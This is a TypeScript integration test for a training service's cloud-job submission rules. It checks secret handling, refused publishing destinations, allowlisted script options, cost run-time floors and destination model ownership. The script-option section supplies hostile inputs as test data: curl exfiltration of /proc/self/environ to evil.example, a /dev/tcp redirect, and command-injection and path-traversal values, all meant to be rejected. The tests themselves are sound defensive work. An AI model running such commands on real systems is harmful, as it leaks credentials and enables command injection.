// Issue 27's submit rules for cloud jobs over real HTTP: the real local stack against the fake
// Replicate. The trainer's input contract (the storage destination's per-job keys only as Cog
// Secret inputs, nothing else secret; the keys work for the job's own bucket only and end with
// it), the hub and S3 publishing destinations refused, script options only for programs an admin
// allows, the run time not below the environment's for anyone but an admin (approval and spending
// limit on the real figure), the destination model set and the token account's own, and an
// http:// public URL followed by polling. Each rule: the legitimate use next to the attack, the
// attack changing nothing, and no secret in any answer or log line.
import { fakeReplicateSettings } from "../helpers/fake-provider";
import { PutObjectCommand, S3Client } from "@aws-sdk/client-s3";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SECRET_INPUTS } from "../../edge/cloud/trainer-input";
import { startFakeReplicate, type FakeReplicate } from "../fakes/fake-replicate";
import { until } from "../helpers/wait";
import { createUserWithKey, setUpAdmin, startTestStack, type Reply, type TestStack } from "../helpers/stack";

const TOKEN = "r8_submitrulestoken0123456789abcdef";
const HF_TOKEN = "hf_submitrulesHubToken0123456789";
const S3_KEY = "AKIASUBMITRULES0001";
const S3_SECRET = "submit-rules-publish-secret-0123456789";
const RATE = 0.0014; // gpu-a100-large, the default hardware
const PNG = Buffer.from(
  "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5e2b3b40000000049454e44ae426082",
  "hex",
);
/** The trainer's input contract: exactly these names (dataset_archive: a local dataset was packaged). */
const CONTRACT = [
  "config",
  "dataloader",
  "dataset_archive",
  "service_job_id",
  "result_destination",
  "result_s3_endpoint",
  "result_s3_bucket",
  "result_s3_prefix",
  "result_s3_region",
  "result_s3_access_key_id",
  "result_s3_secret_access_key",
].sort();

let t: TestStack;
let fake: FakeReplicate;
let admin: { key: string };
let alice: { key: string };
/** Every answer the service gave: no secret may be in any. */
const answers: string[] = [];
/** Secret values handed to jobs (their Secret inputs): in no answer and no log line either. */
const issuedSecrets: string[] = [];

async function call(method: string, path: string, key: string, json?: unknown): Promise<Reply> {
  const reply = await t.call(method, path, { auth: { key }, ...(json === undefined ? {} : { json }) });
  answers.push(reply.text, JSON.stringify([...reply.headers]));
  return reply;
}
const ok = (reply: Reply) => {
  expect(reply.status, reply.text).toBeLessThan(300);
  return reply;
};
const submit = (body: Record<string, unknown>, key = alice.key) =>
  call("POST", "/api/cloud/jobs/submit", key, { config_name: "faces", ...body });
const setEnvironment = (config: Record<string, unknown>, key = alice.key) =>
  call("PUT", "/api/configs/faces", key, { config: { "--model_family": "flux", "--model_type": "lora", ...config } }).then(ok);
const queueLength = async () => (await call("GET", "/api/queue?include_completed=true&limit=500", admin.key)).body.jobs.length as number;
/** Uploads and trainings created at the provider (polls and cancels of earlier jobs go on beside). */
const created = () => fake.requests.filter((r) => r.method === "POST" && !r.path.endsWith("/cancel")).length;
const cancel = async (id: string) => {
  const reply = await call("POST", `/api/cloud/jobs/${id}/cancel`, admin.key);
  expect([200, 409]).toContain(reply.status);
};
/** What a refused submission changes: nothing stored, nothing sent to the provider. */
async function unchanged(attempt: () => Promise<Reply>): Promise<Reply> {
  const [queued, requests, trainings] = [await queueLength(), created(), fake.trainings.size];
  const reply = await attempt();
  expect(await queueLength()).toBe(queued);
  expect(created()).toBe(requests);
  expect(fake.trainings.size).toBe(trainings);
  return reply;
}
const trainingOf = (id: string) =>
  until(`the training of ${id} at the provider`, async () => {
    const job = (await call("GET", `/api/cloud/jobs/${id}`, alice.key)).body;
    return job.provider_job_id ? fake.trainings.get(job.provider_job_id) : null;
  });
const s3 = (endpoint: string, accessKeyId: string, secretAccessKey: string) =>
  new S3Client({ endpoint, region: "auto", forcePathStyle: true, credentials: { accessKeyId, secretAccessKey }, maxAttempts: 1 });
/** "<status> <S3 error code>" of a PutObject of the model into `bucket`, "200" when it was stored. */
async function put(client: S3Client, bucket: string): Promise<string> {
  try {
    const done = await client.send(new PutObjectCommand({ Bucket: bucket, Key: "model.safetensors", Body: PNG }));
    return String(done.$metadata.httpStatusCode);
  } catch (error) {
    return `${(error as { $metadata?: { httpStatusCode?: number } }).$metadata?.httpStatusCode} ${(error as Error).name}`;
  }
}

beforeAll(async () => {
  fake = await startFakeReplicate({
    token: TOKEN,
    run: { startingMs: 50, outcome: "manual", logEveryMs: 200 },
    // A model of the account that was never created (Replicate's "Get a model" answers 404).
    missingModels: ["acme/never-created"],
  });
  t = await startTestStack(undefined, {
    REPLICATE_API_TOKEN: TOKEN,
    HF_TOKEN,
    PUBLISH_S3_ACCESS_KEY_ID: S3_KEY,
    PUBLISH_S3_SECRET_ACCESS_KEY: S3_SECRET,
  });
  admin = await setUpAdmin(t);
  alice = await createUserWithKey(t, { key: admin.key }, "researcher", "alice");
  ok(await call("PUT", "/api/cloud/providers/replicate", admin.key, fakeReplicateSettings(fake, { http_timeout: 5 })));
  // Both publishing destinations enabled and configured: still refused for cloud jobs.
  ok(
    await call("PUT", "/api/cloud/settings", admin.key, {
      consent_mode: "allow",
      public_url: t.base,
      poll_interval_seconds: 1,
      publishing: {
        hub: { enabled: true, endpoint: "https://hub.example.com" },
        s3: { enabled: true, endpoint_url: "https://s3.example.com", bucket: "models", region: "us-east-1", prefix: "runs/" },
      },
    }),
  );
  ok(await call("POST", "/api/queue/concurrency", admin.key, { max_concurrent: 20, user_max_concurrent: 20 }));
  ok(await call("PUT", "/api/queue/approval-rules", admin.key, { cloud_cost_threshold: null }));
  ok(await call("POST", "/api/configs/environments", alice.key, { name: "faces", model_family: "flux", model_type: "lora" }));
  const form = new FormData();
  form.set("target_path", "faces");
  form.append("files[]", new Blob([new Uint8Array(PNG)]), "001.png");
  form.append("files[]", new Blob(["a face"]), "001.txt");
  const uploaded = await t.call("POST", "/api/datasets/upload", { body: form, auth: { key: alice.key } });
  expect(uploaded.status, uploaded.text).toBe(201);
}, 60_000);

afterAll(async () => {
  // Nothing secret in any answer or log line: not the provider token, the hub token, the
  // publishing keys, nor the storage keys handed to jobs as Secret inputs.
  const said = [...answers, ...(t?.lines ?? [])].join("\n");
  for (const secret of [TOKEN, HF_TOKEN, S3_SECRET, ...issuedSecrets]) expect(said).not.toContain(secret);
  await Promise.all([t?.stop(), fake?.stop()]);
});

describe("the trainer's input: the storage destination's per-job keys as Secret inputs, nothing else secret", () => {
  it("sends exactly the contract; its keys write the job's own bucket only, and stop when the job ends", async () => {
    // The public URL is http://: no webhook is asked for, the job is polled, and the summary says so.
    expect((await submit({ dry_run: true })).body.message).toContain(
      "followed by polling every 1 s (webhooks need an https:// public URL)",
    );
    const [first, second] = [ok(await submit({})), ok(await submit({}))];
    expect(first.body.status).toBe("running");
    const [a, b] = [first.body.job_id as string, second.body.job_id as string];
    const [training, other] = [await trainingOf(a), await trainingOf(b)];
    expect(training.webhook).toBeUndefined();
    expect(training.destination).toBe("acme/faces");

    const input = training.input as Record<string, unknown>;
    expect(Object.keys(input).sort()).toEqual(CONTRACT);
    expect(input).toMatchObject({
      service_job_id: a,
      result_destination: "storage",
      result_s3_endpoint: `${t.base}/api/cloud/storage`,
      result_s3_bucket: a,
      result_s3_prefix: "",
      result_s3_region: "auto",
    });
    expect(JSON.parse(input.config as string)).toMatchObject({ "--model_family": "flux" });
    expect(Array.isArray(JSON.parse(input.dataloader as string))).toBe(true);
    expect(input.dataset_archive).toMatch(new RegExp(`^${fake.url}/v1/files/`));
    for (const name of SECRET_INPUTS) expect(input[name]).toEqual(expect.any(String));
    const keyId = input.result_s3_access_key_id as string;
    const secret = input.result_s3_secret_access_key as string;
    expect(keyId).toMatch(/^STU/);
    expect(secret.length).toBeGreaterThan(20);
    issuedSecrets.push(secret);
    // Outside the Secret inputs: no credential at all, and none of the service's own secrets anywhere.
    const open = JSON.stringify(
      Object.fromEntries(Object.entries(input).filter(([name]) => !(SECRET_INPUTS as readonly string[]).includes(name))),
    );
    for (const value of [keyId, secret, TOKEN, HF_TOKEN, S3_KEY, S3_SECRET]) expect(open).not.toContain(value);
    for (const value of [TOKEN, HF_TOKEN, S3_KEY, S3_SECRET]) expect(JSON.stringify(input)).not.toContain(value);
    issuedSecrets.push(String((other.input as Record<string, unknown>).result_s3_secret_access_key));

    // What the trainer does with them: its own bucket takes the model; another job's does not.
    const client = s3(input.result_s3_endpoint as string, keyId, secret);
    try {
      expect(await put(client, a)).toBe("200");
      expect(await put(client, b)).toBe("403 AccessDenied");
      await cancel(a);
      // Ended with the job.
      expect(await put(client, a)).toBe("400 ExpiredToken");
    } finally {
      client.destroy();
      await Promise.all([cancel(a), cancel(b)]);
    }
  }, 30_000);
});

describe("webhooks", () => {
  it("are asked for only with an https:// public URL (the provider sends them nowhere else); an http:// one is polled", async () => {
    // Nothing listens there: the fake's deliveries fail at once, and the job is polled all the same.
    const https = "https://127.0.0.1:1";
    ok(await call("PUT", "/api/cloud/settings", admin.key, { public_url: https }));
    try {
      const dry = await submit({ dry_run: true });
      expect(dry.body.message).not.toContain("polling");
      const id = ok(await submit({})).body.job_id as string;
      const training = await trainingOf(id);
      expect(training.webhook).toBe(`${https}/api/webhooks/replicate`);
      expect(training.input.result_s3_endpoint).toBe(`${https}/api/cloud/storage`);
      issuedSecrets.push(String(training.input.result_s3_secret_access_key));
      await cancel(id);
    } finally {
      ok(await call("PUT", "/api/cloud/settings", admin.key, { public_url: t.base }));
    }
  }, 30_000);
});

describe("the hub and S3 publishing destinations", () => {
  it("are refused for cloud jobs, even enabled, saying why and what to use instead; nothing is stored or sent", async () => {
    for (const destination of [{ type: "hub", repo_id: "alice/faces-lora" }, { type: "s3" }, { type: "s3", prefix: "mine/" }])
      for (const dry_run of [true, false]) {
        const refused = await unchanged(() => submit({ destination, dry_run }));
        expect([refused.status, refused.body.code]).toEqual([422, "destination_unavailable"]);
        expect(refused.body.detail).toContain('{"type": "storage"}');
        expect(refused.body.detail).toMatch(destination.type === "hub" ? /hub token/ : /keys/);
        expect(refused.body.errors).toEqual([{ path: "destination", message: expect.any(String) }]);
      }
    // An admin is held to the same rule: the token would reach the provider all the same.
    const byAdmin = await unchanged(() => submit({ destination: { type: "hub", repo_id: "acme/x" } }, admin.key));
    expect(byAdmin.status).toBe(422);
    // The storage destination (the default) is what works.
    expect((await submit({ destination: { type: "storage" }, dry_run: true })).status).toBe(200);
  });
});

describe("script options on cloud submissions", () => {
  it("are refused, naming the option, unless an admin allows their program in the cloud settings", async () => {
    try {
      await setEnvironment({ "--post_checkpoint_script": "curl -d @/proc/self/environ https://evil.example/x" });
      const refused = await unchanged(() => submit({}));
      expect([refused.status, refused.body.code]).toEqual([422, "script_not_allowed"]);
      expect(refused.body.detail).toContain("--post_checkpoint_script");
      expect(refused.body.errors).toEqual([
        { path: "environment.config.--post_checkpoint_script", message: expect.stringContaining('"curl"') },
      ]);
      // A dry run says so too, and so does an admin's submission: the rule is the box's, not a level's.
      expect((await submit({ dry_run: true })).body.code).toBe("script_not_allowed");
      expect((await unchanged(() => submit({}, admin.key))).body.code).toBe("script_not_allowed");

      // Only an admin allows a program, and the list is checked.
      expect((await call("PUT", "/api/cloud/settings", alice.key, { allowed_scripts: ["*"] })).status).toBe(403);
      for (const bad of [["../bin/sh"], ["/src/../bin/sh"], ["two words"], [""]])
        expect((await call("PUT", "/api/cloud/settings", admin.key, { allowed_scripts: bad })).status).toBe(422);
      const allowed = ok(await call("PUT", "/api/cloud/settings", admin.key, { allowed_scripts: ["/src/hooks/*"] }));
      expect(allowed.body.allowed_scripts).toEqual(["/src/hooks/*"]);
      expect((await call("GET", "/api/cloud/settings", alice.key)).body.allowed_scripts).toEqual(["/src/hooks/*"]);

      // The allowed program passes; anything else, or a way out of the folder, still does not.
      await setEnvironment({
        "--post_checkpoint_script": "/src/hooks/notify.sh {local_checkpoint_path} {global_step}",
        "--post_upload_script": "/src/hooks/publish.sh",
      });
      expect((await submit({ dry_run: true })).status).toBe(200);
      for (const [option, command] of [
        ["--validation_external_script", "bash -c 'cat /proc/self/environ'"],
        ["--post_upload_script", "/src/hooks/../../bin/sh -c x"],
        ["--post_checkpoint_script", "'unclosed"],
        // Another spelling an argument parser takes for the same option.
        ["--post-checkpoint-script", "curl https://evil.example/x"],
        // The allowed program, and more behind it for a shell to run.
        ["--post_checkpoint_script", "/src/hooks/notify.sh; curl https://evil.example/x"],
        ["--post_checkpoint_script", "/src/hooks/notify.sh && curl https://evil.example/x"],
        ["--post_upload_script", "/src/hooks/publish.sh `id`"],
        ["--post_upload_script", "/src/hooks/$(id).sh"],
        ["--post_upload_script", "/src/hooks/publish.sh > /dev/tcp/evil.example/80"],
        ["--validation_external_script", "/src/hooks/notify.sh\ncurl https://evil.example/x"],
      ]) {
        await setEnvironment({ [option!]: command });
        const again = await unchanged(() => submit({}));
        expect([again.status, again.body.code, again.body.errors.map((e: { path: string }) => e.path)]).toEqual([
          422,
          "script_not_allowed",
          [`environment.config.${option}`],
        ]);
      }
    } finally {
      await setEnvironment({});
      ok(await call("PUT", "/api/cloud/settings", admin.key, { allowed_scripts: [] }));
    }
  });
});

describe("the run time behind the estimate, the approval rule and the spending limit", () => {
  it("cannot be lowered below the environment's by a researcher; raising it, or an admin lowering it, is taken", async () => {
    await setEnvironment({ "--max_runtime_minutes": 90 });
    try {
      const real = costOf(90 * 60);
      // The environment's 90 minutes, or more when asked.
      expect((await submit({ dry_run: true })).body.estimate).toMatchObject({ expected_seconds: 5400, estimated_cost_usd: real });
      expect((await submit({ dry_run: true, max_runtime_minutes: 120 })).body.estimate.expected_seconds).toBe(7200);
      // The attack: a 1-minute estimate for a 90-minute job.
      for (const dry_run of [true, false]) {
        const refused = await unchanged(() => submit({ dry_run, max_runtime_minutes: 1 }));
        expect([refused.status, refused.body.code]).toEqual([422, "runtime_below_environment"]);
        expect(refused.body.detail).toContain("90 minutes");
        expect(refused.body.errors[0].path).toBe("max_runtime_minutes");
      }
      // Without one in the environment the floor is the settings' default run time (60 minutes).
      await setEnvironment({});
      expect((await submit({ dry_run: true, max_runtime_minutes: 59 })).body.code).toBe("runtime_below_environment");
      expect((await submit({ dry_run: true })).body.estimate.expected_seconds).toBe(3600);
      await setEnvironment({ "--max_runtime_minutes": 90 });

      // An admin may submit a shorter estimate.
      const byAdmin = await submit({ dry_run: true, max_runtime_minutes: 1 }, admin.key);
      expect([byAdmin.status, byAdmin.body.estimate.expected_seconds]).toEqual([200, 60]);

      // The approval rule sees the real figure: $7.56 needs approval at a $5 threshold.
      ok(await call("PUT", "/api/queue/approval-rules", admin.key, { cloud_cost_threshold: 5 }));
      const blocked = ok(await submit({}));
      expect(blocked.body.status).toBe("blocked");
      expect(blocked.body.message).toContain(`$${real.toFixed(2)}`);
      await cancel(blocked.body.job_id);
      ok(await call("PUT", "/api/queue/approval-rules", admin.key, { cloud_cost_threshold: null }));

      // So does the spending limit: $5 a month is less than this job may cost.
      ok(await call("PUT", "/api/cloud/settings", admin.key, { spending_limit_usd: 5 }));
      const over = await unchanged(() => submit({}));
      expect([over.status, over.body.code]).toEqual([409, "spending_limit_exceeded"]);
      expect(over.body.detail).toContain(`$${real.toFixed(2)}`);
      expect((await unchanged(() => submit({ max_runtime_minutes: 1 }))).body.code).toBe("runtime_below_environment");
    } finally {
      await call("PUT", "/api/cloud/settings", admin.key, { spending_limit_usd: null });
      await call("PUT", "/api/queue/approval-rules", admin.key, { cloud_cost_threshold: null });
      await setEnvironment({});
    }
  });
});

describe("the destination model at the provider", () => {
  const setDestination = (training_destination: string | null) =>
    call("PUT", "/api/cloud/providers/replicate", admin.key, { training_destination }).then(ok);

  it("must be set: no default to the trainer model itself", async () => {
    await setDestination(null);
    try {
      for (const dry_run of [true, false]) {
        const refused = await unchanged(() => submit({ dry_run }));
        expect([refused.status, refused.body.code]).toEqual([409, "provider_not_configured"]);
        expect(refused.body.detail).toContain("training_destination");
      }
    } finally {
      await setDestination("acme/faces");
    }
  });

  it("unset after a job was queued, fails that job when admitted rather than training into the trainer model", async () => {
    ok(await call("PUT", "/api/queue/approval-rules", admin.key, { cloud_cost_threshold: 1 }));
    let id = "";
    try {
      const blocked = ok(await submit({}));
      expect(blocked.body.status).toBe("blocked");
      id = blocked.body.job_id;
      await setDestination(null);
      const trainings = fake.trainings.size;
      ok(await call("POST", `/api/queue/${id}/approve`, admin.key));
      const failed = await until("the job to fail", async () => {
        const job = (await call("GET", `/api/cloud/jobs/${id}`, alice.key)).body;
        return job.status === "failed" ? job : null;
      });
      expect(failed.error_message).toContain("training_destination");
      expect(fake.trainings.size).toBe(trainings);
    } finally {
      await setDestination("acme/faces");
      await call("PUT", "/api/queue/approval-rules", admin.key, { cloud_cost_threshold: null });
      if (id) await cancel(id);
    }
  }, 30_000);

  it("must be the API token account's own (GET /v1/account), checked before anything is stored", async () => {
    await setDestination("someone-else/faces");
    try {
      const before = [await queueLength(), fake.trainings.size];
      const written = created();
      const refused = await submit({});
      expect([refused.status, refused.body.code]).toEqual([409, "destination_not_owned"]);
      expect(refused.body.detail).toContain("someone-else/faces");
      expect(refused.body.detail).toContain("acme");
      expect([await queueLength(), fake.trainings.size]).toEqual(before);
      // Only the account was asked: no upload, no training.
      expect(created()).toBe(written);
      // A dry run does not ask the provider at all.
      const asked = fake.requests.filter((r) => r.path === "/v1/account").length;
      expect((await submit({ dry_run: true })).status).toBe(200);
      expect(fake.requests.filter((r) => r.path === "/v1/account").length).toBe(asked);
    } finally {
      await setDestination("acme/faces");
    }
    // The account's, but never created: refused before anything is stored or uploaded (Replicate
    // would refuse the training only after the upload).
    await setDestination("acme/never-created");
    try {
      const before = [await queueLength(), fake.trainings.size];
      const written = created();
      const missing = await submit({});
      expect([missing.status, missing.body.code]).toEqual([409, "destination_missing"]);
      expect(missing.body.detail).toContain("acme/never-created does not exist");
      expect([await queueLength(), fake.trainings.size, created()]).toEqual([...before, written]);
      expect(fake.requests.some((r) => r.method === "GET" && r.path === "/v1/models/acme/never-created")).toBe(true);
    } finally {
      await setDestination("acme/faces");
    }
    // The account's own model: accepted, and the training goes there.
    const accepted = ok(await submit({}));
    const training = await trainingOf(accepted.body.job_id);
    expect(training.destination).toBe("acme/faces");
    await cancel(accepted.body.job_id);
  }, 30_000);
});

function costOf(seconds: number): number {
  return Math.round(seconds * RATE * 10_000) / 10_000;
}
